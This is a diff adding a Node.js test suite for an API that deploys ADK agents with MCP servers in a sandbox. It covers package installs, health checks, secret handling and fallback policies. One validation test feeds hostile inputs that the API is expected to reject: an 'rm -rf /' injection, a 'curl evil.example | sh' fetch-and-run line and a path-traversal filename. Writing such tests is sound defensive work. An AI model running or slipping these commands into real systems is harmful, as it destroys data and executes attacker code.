@@ -0,0 +1,259 @@
+import assert from 'node:assert/strict';
+import { after, before, beforeEach, describe, it, mock } from 'node:test';
+import { setSandboxProvider } from '../lib/providers/index.js';
+import { createFakeProvider } from './helpers/fake-sandbox.js';
+import { startServer } from './helpers/server.js';
+
+const AGENT = `import os
+from google.adk.agents import LlmAgent
+
+root_agent = LlmAgent(name="searcher", model="gemini-2.0-flash", instruction="Search the web.")
+`;
+
+const BRAVE_SERVER = {
+  name: 'brave',
+  package: '@modelcontextprotocol/server-brave-search',
+  env: { BRAVE_API_KEY: '${BRAVE_API_KEY}' },
+  seedFiles: { 'queries/examples.txt': 'weather in Paris\n' }
+};
+
+describe('POST /api/execute with mcpServers', () => {
+  const fake = createFakeProvider();
+  let server;
+
+  before(async () => {
+    mock.method(console, 'log', () => {});
+    mock.method(console, 'error', () => {});
+    process.env.MCP_HEALTH_CHECK_SERVER_TIMEOUT_MS = '12500';
+    setSandboxProvider(fake.provider);
+    server = await startServer();
+  });
+
+  after(async () => {
+    await server.close();
+    mock.restoreAll();
+    delete process.env.MCP_HEALTH_CHECK_SERVER_TIMEOUT_MS;
+  });
+
+  beforeEach(() => {
+    fake.reset();
+  });
+
+  it('installs and health-checks exactly the declared servers', async () => {
+    fake.script('mcp_health_check.py', {
+      stdout: JSON.stringify([{ name: 'brave', status: 'ok', tools: ['brave_web_search'], error: null }])
+    });
+
+    const response = await server.request('POST', '/api/execute', {
+      files: { 'agent.py': AGENT },
+      secrets: { BRAVE_API_KEY: 'brave-secret-key' },
+      mcpServers: [BRAVE_SERVER]
+    });
+
+    assert.equal(response.status, 200);
+    assert.deepEqual(response.body.executionDetails.mcpServers, [{
+      name: 'brave',
+      package: '@modelcontextprotocol/server-brave-search',
+      status: 'ok',
+      tools: ['brave_web_search'],
+      error: null
+    }]);
+
+    const [sbx] = fake.sandboxes;
+    assert.equal(sbx.ran('npm install').length, 1);
+    assert.equal(sbx.ran("npm install --no-fund --no-audit --silent '@modelcontextprotocol/server-brave-search'").length, 1);
+    assert.equal(sbx.ran('server-filesystem').length, 0);
+
+    // Secret references are expanded inside the sandbox, never written to the config
+    const config = JSON.parse(sbx.writes.get('workspace/mcp_servers.json'));
+    assert.deepEqual(config, [{
+      name: 'brave',
+      command: 'npx',
+      args: ['-y', '@modelcontextprotocol/server-brave-search'],
+      env: { BRAVE_API_KEY: '${BRAVE_API_KEY}' }
+    }]);
+    const [healthCheck] = sbx.ran('mcp_health_check.py');
+    assert.equal(healthCheck.opts.envs.BRAVE_API_KEY, 'brave-secret-key');
+
+    // Each server gets the configured time inside the script, within the command's own timeout
+    assert.match(healthCheck.cmd, /python3 mcp_health_check\.py mcp_servers\.json 12\.5$/);
+    assert.equal(healthCheck.opts.timeoutMs, 60000 + 12500);
+
+    assert.equal(sbx.writes.get('workspace/accessible_files/queries/examples.txt'), 'weather in Paris\n');
+    assert.ok(!sbx.writes.has('workspace/accessible_files/sample.txt'));
+    assert.ok(sbx.writes.has('workspace/multi_tool_agent/agent_fallback.py'));
+
+    assert.equal(response.body.degraded, false);
+    assert.equal(response.body.importError, null);
+
+    const session = await server.request('GET', `/api/sessions/${response.body.sessionId}`);
+    assert.equal(session.body.agentType, 'mcp');
+  });
+
+  it('reports a server whose package fails to install', async () => {
+    fake.script("'@modelcontextprotocol/server-brave-search'", { exitCode: 1, stderr: 'npm ERR! 404 Not Found' });
+
+    const response = await server.request('POST', '/api/execute', {
+      files: { 'agent.py': AGENT },
+      mcpServers: [BRAVE_SERVER]
+    });
+
+    assert.equal(response.status, 200);
+    const [status] = response.body.executionDetails.mcpServers;
+    assert.equal(status.status, 'failed');
+    assert.equal(status.error, 'npm install failed: npm ERR! 404 Not Found');
+    assert.equal(fake.sandboxes[0].ran('mcp_health_check.py').length, 0);
+  });
+
+  it('treats an empty manifest as a standard agent', async () => {
+    const response = await server.request('POST', '/api/execute', {
+      files: { 'agent.py': AGENT.replace('LlmAgent(', 'LlmAgent(tools=[MCPToolset()], ') },
+      mcpServers: []
+    });
+
+    assert.equal(response.status, 200);
+    const [sbx] = fake.sandboxes;
+    assert.equal(sbx.ran('npm install').length, 0);
+    assert.doesNotMatch(sbx.writes.get('workspace/requirements.txt'), /^mcp$/m);
+  });
+
+  it('rejects malformed server definitions', async () => {
+    const response = await server.request('POST', '/api/execute', {
+      files: { 'agent.py': AGENT },
+      mcpServers: [
+        { name: 'brave', package: "evil'; rm -rf /" },
+        { name: 'brave', args: 'not-an-array' },
+        { name: 'seeds', command: 'uvx', seedFiles: { '../escape.txt': 'x' } },
+        { name: 'newline', package: 'left-pad@1\nRUN curl evil.example | sh' },
+        { name: 'return', package: 'left-pad@>=1 <2\r' }
+      ]
+    });
+
+    assert.equal(response.status, 400);
+    assert.deepEqual(response.body.details, [
+      { field: 'mcpServers[0].package', message: 'Must be an npm package name, optionally with @version' },
+      { field: 'mcpServers[1].name', message: 'Duplicate MCP server name "brave"' },
+      { field: 'mcpServers[1]', message: 'Either package or command is required' },
+      { field: 'mcpServers[1].args', message: 'Must be an array of strings' },
+      { field: 'mcpServers[2].seedFiles["../escape.txt"]', message: 'Path traversal is not allowed' },
+      { field: 'mcpServers[3].package', message: 'Must be an npm package name, optionally with @version' },
+      { field: 'mcpServers[4].package', message: 'Must be an npm package name, optionally with @version' }
+    ]);
+  });
+});
+
+describe('MCP fallback policy', () => {
+  const fake = createFakeProvider();
+  let server;
+
+  const MCP_AGENT = `from google.adk.agents import LlmAgent
+from google.adk.tools.mcp_tool.mcp_toolset import MCPToolset, StdioServerParameters
+
+root_agent = LlmAgent(name="files", model="gemini-2.0-flash", instruction="Answer questions about files.", tools=[MCPToolset()])
+`;
+
+  // Both MCP import checks fail, and the start script swaps in the fallback agent
+  const failMcpImports = () => {
+    fake.script('MCP imports successful', { exitCode: 1, stdout: '❌ MCP import failed: No module named \'mcp\'' });
+    fake.script('./start_adk.sh', {
+      stdout: 'MCP import failed: No module named \'mcp\'\nMCP imports failed, switching to fallback agent...\nSwitched to fallback agent without MCP tools\n'
+    });
+  };
+
+  before(async () => {
+    mock.method(console, 'log', () => {});
+    mock.method(console, 'error', () => {});
+    setSandboxProvider(fake.provider);
+    server = await startServer();
+  });
+
+  after(async () => {
+    await server.close();
+    mock.restoreAll();
+  });
+
+  beforeEach(() => {
+    fake.reset();
+  });
+
+  it('reports a degraded deploy and keeps the agent\'s instructions by default', async () => {
+    failMcpImports();
+
+    const response = await server.request('POST', '/api/execute', { files: { 'agent.py': MCP_AGENT } });
+
+    assert.equal(response.status, 200);
+    assert.equal(response.body.degraded, true);
+    assert.equal(response.body.importError, "No module named 'mcp'");
+
+    const [sbx] = fake.sandboxes;
+    const fallback = sbx.writes.get('workspace/multi_tool_agent/agent_fallback.py');
+    assert.match(fallback, /def read_settings\(\)/);
+    assert.doesNotMatch(fallback, /DocQueryAgent/);
+
+    const session = await server.request('GET', `/api/sessions/${response.body.sessionId}`);
+    assert.equal(session.body.degraded, true);
+    assert.equal(session.body.importError, "No module named 'mcp'");
+  });
+
+  it('starts the generic fallback agent under the fallback policy', async () => {
+    failMcpImports();
+
+    const response = await server.request('POST', '/api/execute', { files: { 'agent.py': MCP_AGENT }, fallbackPolicy: 'fallback' });
+
+    assert.equal(response.status, 200);
+    assert.equal(response.body.degraded, true);
+    assert.match(fake.sandboxes[0].writes.get('workspace/multi_tool_agent/agent_fallback.py'), /name="DocQueryAgent"/);
+  });
+
+  it('fails the deploy under the fail policy', async () => {
+    failMcpImports();
+
+    const response = await server.request('POST', '/api/execute', { files: { 'agent.py': MCP_AGENT }, fallbackPolicy: 'fail' });
+
+    assert.equal(response.status, 500);
+    assert.equal(response.body.errorDetails.code, 'MCP_IMPORT_FAILED');
+    assert.equal(response.body.error, "MCP imports failed: No module named 'mcp'");
+
+    const [sbx] = fake.sandboxes;
+    assert.ok(!sbx.writes.has('workspace/multi_tool_agent/agent_fallback.py'));
+    assert.equal(sbx.ran('./start_adk.sh').length, 0);
+    assert.equal(sbx.killed, true);
+  });
+
+  it('checks the MCP imports again when a degraded session reloads', async () => {
+    failMcpImports();
+    const { body } = await server.request('POST', '/api/execute', { files: { 'agent.py': MCP_AGENT } });
+    assert.equal(body.degraded, true);
+    const url = `/api/sessions/${body.sessionId}/files`;
+    const files = { 'agent.py': MCP_AGENT, 'prompts.md': 'Answer briefly.\n' };
+
+    // Only one reload runs at a time, and the imports still fail on restart
+    fake.script('./workspace/restart_adk.sh', {
+      stdout: 'MCP import failed: No module named \'mcp\'\nSwitched to fallback agent without MCP tools: multi_tool_agent\nRestarting ADK web server...\n'
+    });
+    const [first, second] = await Promise.all([server.request('PUT', url, { files }), server.request('PUT', url, { files })]);
+    assert.deepEqual([first.status, second.status].sort(), [200, 409]);
+    assert.equal([first, second].find(response => response.status === 200).body.session.degraded, true);
+
+    // The imports work now, so the submitted agent runs again
+    fake.script('./workspace/restart_adk.sh', { stdout: 'MCP imports successful, using MCP-enabled agent\nRestarting ADK web server...\n' });
+    const reload = await server.request('PUT', url, { files: { 'agent.py': MCP_AGENT, 'prompts.md': 'Answer in detail.\n' } });
+    assert.equal(reload.status, 200);
+    assert.equal(reload.body.session.degraded, false);
+    assert.equal(reload.body.session.importError, null);
+
+    const [sbx] = fake.sandboxes;
+    assert.equal(sbx.writes.get('workspace/multi_tool_agent/agent.py'), MCP_AGENT);
+    assert.ok(sbx.writes.has('workspace/multi_tool_agent/agent_fallback.py'));
+    assert.equal(sbx.ran('./workspace/restart_adk.sh').length, 2);
+  });
+
+  it('rejects unknown policies', async () => {
+    const response = await server.request('POST', '/api/execute', { files: { 'agent.py': MCP_AGENT }, fallbackPolicy: 'ignore' });
+
+    assert.equal(response.status, 400);
+    assert.deepEqual(response.body.details, [
+      { field: 'fallbackPolicy', message: 'Must be one of fail, fallback, preserve_instructions' }
+    ]);
+  });
+});